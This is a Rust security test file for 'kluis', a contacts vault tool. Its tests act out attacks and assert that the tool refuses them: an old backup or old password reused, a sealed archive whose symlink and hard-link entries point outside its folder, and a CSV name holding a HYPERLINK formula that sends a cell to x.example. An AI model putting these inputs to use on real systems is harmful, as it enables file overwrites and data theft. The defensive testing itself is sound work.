//! Attacks with the real `kluis` binary, tried as someone would who holds the vault's files, an
//! old password or an old backup (SECURITY.md > What we protect, from whom). Each must be
//! refused and must change nothing. Every one of these succeeded on the code before the fix
//! that made it fail (issue 17).
use std::path::Path;
use std::process::{Command, Output};

const ANNA_PW: &str = "paars-fietsbel-onder-regen";
const INITIAL_PW: &str = "groene-theepot-op-zolder-7";
const MALLORY_PW: &str = "zilveren-maan-boven-zee";
const NEW_PW: &str = "oranje-kikker-in-de-sloot";

fn kluis(dir: &Path, envs: &[(&str, &str)], args: &[&str]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_kluis"));
    c.arg("--data-dir").arg(dir).args(args);
    c.env_remove("KLUIS_PASSWORD")
        .env_remove("KLUIS_USER")
        .env_remove("KLUIS_DATA_DIR")
        .env_remove("KLUIS_RECOVERY_KEY");
    for (k, v) in envs {
        c.env(k, v);
    }
    c.stdin(std::process::Stdio::null());
    c.output().unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn ok(o: Output) -> String {
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    text(&o)
}

fn as_user<'a>(user: &'a str, pw: &'a str) -> [(&'a str, &'a str); 2] {
    [("KLUIS_USER", user), ("KLUIS_PASSWORD", pw)]
}

fn init(dir: &Path) {
    ok(kluis(
        dir,
        &[("KLUIS_PASSWORD", ANNA_PW)],
        &["init", "--org", "Bakkerij Jansen", "--admin", "anna"],
    ));
}

/// Adds a user as anna and lets them choose their own password.
fn add_user(dir: &Path, name: &str, role: &str, own_pw: &str) {
    ok(kluis(
        dir,
        &[
            ("KLUIS_USER", "anna"),
            ("KLUIS_PASSWORD", ANNA_PW),
            ("INITIAL", INITIAL_PW),
        ],
        &[
            "user",
            "add",
            name,
            "--role",
            role,
            "--password-env",
            "INITIAL",
        ],
    ));
    ok(kluis(
        dir,
        &[
            ("KLUIS_USER", name),
            ("KLUIS_PASSWORD", INITIAL_PW),
            ("KLUIS_NEW_PASSWORD", own_pw),
        ],
        &["passwd"],
    ));
}

/// Imports one person (a semicolon CSV as Excel writes it).
fn add_person(dir: &Path, family: &str) {
    let csv = dir.parent().unwrap().join(format!("{family}.csv"));
    std::fs::write(
        &csv,
        format!("Voornaam;Achternaam;E-mail\nPiet;{family};piet@{family}.nl\n"),
    )
    .unwrap();
    ok(kluis(
        dir,
        &as_user("anna", ANNA_PW),
        &["contacts", "import", csv.to_str().unwrap()],
    ));
}

fn finds(dir: &Path, who: [(&str, &str); 2], query: &str) -> bool {
    let out = ok(kluis(dir, &who, &["contacts", "search", query]));
    out.to_lowercase().contains(&query.to_lowercase())
}

fn backup_file(dir: &Path) -> std::path::PathBuf {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "kluisbackup"))
        .expect("a backup was written")
}

/// A removed administrator restores the backup she made while she was one, with her own
/// password: she must not become an administrator again, nor replace what was entered since.
#[test]
fn a_removed_administrator_cannot_restore_her_old_backup() {
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("vault");
    let usb = root.path().join("usb");
    std::fs::create_dir_all(&usb).unwrap();
    init(&dir);
    add_user(&dir, "mallory", "administrator", MALLORY_PW);
    add_person(&dir, "Voorheen");
    ok(kluis(
        &dir,
        &as_user("mallory", MALLORY_PW),
        &["backup", "create", "--out", usb.to_str().unwrap()],
    ));
    let file = backup_file(&usb);
    add_person(&dir, "Sindsdien");
    ok(kluis(
        &dir,
        &as_user("anna", ANNA_PW),
        &["user", "remove", "mallory"],
    ));

    let o = kluis(
        &dir,
        &as_user("mallory", MALLORY_PW),
        &["backup", "restore", file.to_str().unwrap()],
    );
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    // Nothing was replaced: what anna entered since is there, mallory is still out.
    assert!(finds(&dir, as_user("anna", ANNA_PW), "Sindsdien"));
    let o = kluis(&dir, &as_user("mallory", MALLORY_PW), &["user", "list"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    assert!(!dir.join("kluis.db.before-restore").exists());
}

/// After a password change, the old password opens nothing: not with the key file as it is,
/// not with any other key file in the vault folder (`kluis.keys.prev`), and not with a copy
/// of the key file taken before the change (as a backup or a stolen copy holds it).
#[test]
fn an_old_password_opens_nothing_with_any_key_file() {
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("vault");
    init(&dir);
    add_person(&dir, "Geheim");
    let stolen = std::fs::read(dir.join("kluis.keys")).unwrap();
    ok(kluis(
        &dir,
        &[
            ("KLUIS_USER", "anna"),
            ("KLUIS_PASSWORD", ANNA_PW),
            ("KLUIS_NEW_PASSWORD", NEW_PW),
        ],
        &["passwd"],
    ));
    assert!(finds(&dir, as_user("anna", NEW_PW), "Geheim"));
    let current = std::fs::read(dir.join("kluis.keys")).unwrap();

    // Every key file an attacker could put in place: what the folder holds now and the copy.
    let mut candidates = vec![("stolen copy", stolen)];
    for e in std::fs::read_dir(&dir).unwrap().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if name.starts_with("kluis.keys") {
            candidates.push((
                "a key file in the vault folder",
                std::fs::read(e.path()).unwrap(),
            ));
        }
    }
    for (what, bytes) in candidates {
        std::fs::write(dir.join("kluis.keys"), &bytes).unwrap();
        let o = kluis(
            &dir,
            &as_user("anna", ANNA_PW),
            &["contacts", "search", "Geheim"],
        );
        assert_ne!(o.status.code(), Some(0), "{what}: {}", text(&o));
        assert!(!text(&o).contains("Geheim"), "{what}: {}", text(&o));
    }
    std::fs::write(dir.join("kluis.keys"), &current).unwrap();
    assert!(finds(&dir, as_user("anna", NEW_PW), "Geheim"));
}

/// A sealed "subject export" built by an attacker holds a symbolic link and a hard link to a
/// file outside the folder the subject opens it into. Opening it must write regular files only,
/// inside that folder, or refuse the whole file.
#[test]
fn a_sealed_file_with_links_writes_nothing_outside_the_folder() {
    use kluis_vault::sealed::{self, Recipient};
    let root = tempfile::tempdir().unwrap();
    let victim_file = root.path().join("victim.txt");
    std::fs::write(&victim_file, "the subject's own file").unwrap();

    let mut archive = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(tar::EntryType::Symlink);
    header.set_size(0);
    archive
        .append_link(&mut header, "person.csv", &victim_file)
        .unwrap();
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(tar::EntryType::Link);
    header.set_size(0);
    archive
        .append_link(&mut header, "notes.txt", &victim_file)
        .unwrap();
    let mut header = tar::Header::new_gnu();
    let body = b"written through the link";
    header.set_size(body.len() as u64);
    header.set_cksum();
    archive
        .append_data(&mut header, "person.csv", &body[..])
        .unwrap();
    let tar = archive.into_inner().unwrap();
    let file = root.path().join("inzage.kluis");
    let mut out = Vec::new();
    sealed::seal(
        &tar[..],
        &mut out,
        &[Recipient::Passphrase {
            passphrase: b"correct horse battery staple",
            kdf: kluis_vault::KdfParams::fast_for_tests(),
        }],
        b"{}",
    )
    .unwrap();
    std::fs::write(&file, out).unwrap();

    let target = root.path().join("geopend");
    let o = kluis(
        root.path(),
        &[("KLUIS_PASSPHRASE", "correct horse battery staple")],
        &[
            "open-sealed",
            file.to_str().unwrap(),
            "--out",
            target.to_str().unwrap(),
        ],
    );
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(&victim_file).unwrap(),
        "the subject's own file"
    );
    assert!(!target.exists(), "a folder was written");
    for e in std::fs::read_dir(root.path()).unwrap().flatten() {
        let kind = std::fs::symlink_metadata(e.path()).unwrap().file_type();
        assert!(!kind.is_symlink(), "{:?} is a link", e.path());
    }
}

/// A person whose name is a spreadsheet formula: the CSV export must not hand a spreadsheet a
/// formula to run when the list is opened (cells starting with =, +, -, @, tab, CR).
#[test]
fn a_formula_in_a_name_is_not_a_formula_in_the_csv_export() {
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("vault");
    init(&dir);
    let csv = root.path().join("in.csv");
    std::fs::write(
        &csv,
        "Voornaam;Achternaam;E-mail;Telefoon;Notities\n\
         \"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\";Klant;a@b.nl;+31 6 12345678;@SUM(1+1)\n\
         Piet;\"-2+3\";p@b.nl;;\"+1\"\n",
    )
    .unwrap();
    ok(kluis(
        &dir,
        &as_user("anna", ANNA_PW),
        &["contacts", "import", csv.to_str().unwrap()],
    ));
    let out = root.path().join("out.csv");
    ok(kluis(
        &dir,
        &as_user("anna", ANNA_PW),
        &[
            "contacts",
            "export",
            "--format",
            "csv",
            "--out",
            out.to_str().unwrap(),
        ],
    ));
    let bytes = std::fs::read(&out).unwrap();
    let mut reader = csv_cells(&bytes);
    assert!(reader.iter().any(|c| c.contains("HYPERLINK")), "{reader:?}");
    reader.retain(|c| !c.is_empty());
    for cell in &reader {
        let first = cell.chars().next().unwrap();
        let phone = cell.starts_with('+') && cell[1..].chars().all(|c| c.is_ascii_digit());
        assert!(
            !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') || phone,
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    // The phone number stays as E.164, readable and dialable.
    assert!(reader.iter().any(|c| c == "+31612345678"), "{reader:?}");
}

/// The cells of a semicolon- or comma-separated file (quotes as RFC 4180).
fn csv_cells(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes)
        .trim_start_matches('\u{feff}')
        .to_string();
    let sep = if text.lines().next().unwrap_or("").contains(';') {
        ';'
    } else {
        ','
    };
    let mut cells = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            '"' => quoted = !quoted,
            c if (c == sep || c == '\n') && !quoted => cells.push(std::mem::take(&mut cur)),
            '\r' if !quoted => {}
            c => cur.push(c),
        }
    }
    cells.push(cur);
    cells
}

/// Someone with the database key cuts the end off the audit trail and removes the anchors file
/// beside it: the chain that is left links up. An anchor an administrator wrote down from
/// Settings > Health (`kluis verify --anchor ID:HASH`) still finds the cut.
#[test]
fn a_cut_audit_tail_is_found_by_an_anchor_written_down() {
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("vault");
    init(&dir);
    add_person(&dir, "Eerste");
    let o = ok(kluis(
        &dir,
        &as_user("anna", ANNA_PW),
        &["verify", "--json"],
    ));
    let report: serde_json::Value = serde_json::from_str(&o[..o.rfind('}').unwrap() + 1]).unwrap();
    let (id, head) = (
        report["audit"]["headId"].as_i64().unwrap(),
        report["audit"]["head"].as_str().unwrap().to_string(),
    );
    let anchor = format!("{id}:{}", &head[..16]);
    add_person(&dir, "Tweede");

    let kf = kluis_vault::KeyFile::load(&dir.join("kluis.keys")).unwrap();
    let key = kf
        .unlock_user("anna", &kluis_vault::Password::new(ANNA_PW))
        .unwrap()
        .db_key
        .unwrap();
    let c = rusqlite::Connection::open(dir.join("kluis.db")).unwrap();
    c.execute_batch(&kluis_vault::sqlcipher_key_pragma(&key))
        .unwrap();
    c.execute_batch(&format!(
        "DROP TRIGGER audit_log_no_delete; DELETE FROM audit_log WHERE id >= {};",
        id - 2
    ))
    .unwrap();
    drop(c);
    std::fs::remove_file(dir.join("kluis.anchors")).unwrap();

    // Without the anchor the cut goes unseen (nothing else remembers the tail) ...
    ok(kluis(&dir, &as_user("anna", ANNA_PW), &["verify"]));
    // ... with it, verify names the entry where the trail no longer is what was written down
    // (cut off, or, once sign-ins since wrote new entries there, rewritten).
    let o = kluis(
        &dir,
        &as_user("anna", ANNA_PW),
        &["verify", "--anchor", &anchor],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains(&format!("entry {id}"))
            && (text(&o).contains("cut off") || text(&o).contains("rewritten")),
        "{}",
        text(&o)
    );
    let o = kluis(
        &dir,
        &as_user("anna", ANNA_PW),
        &["verify", "--anchor", "12:xyz"],
    );
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
}
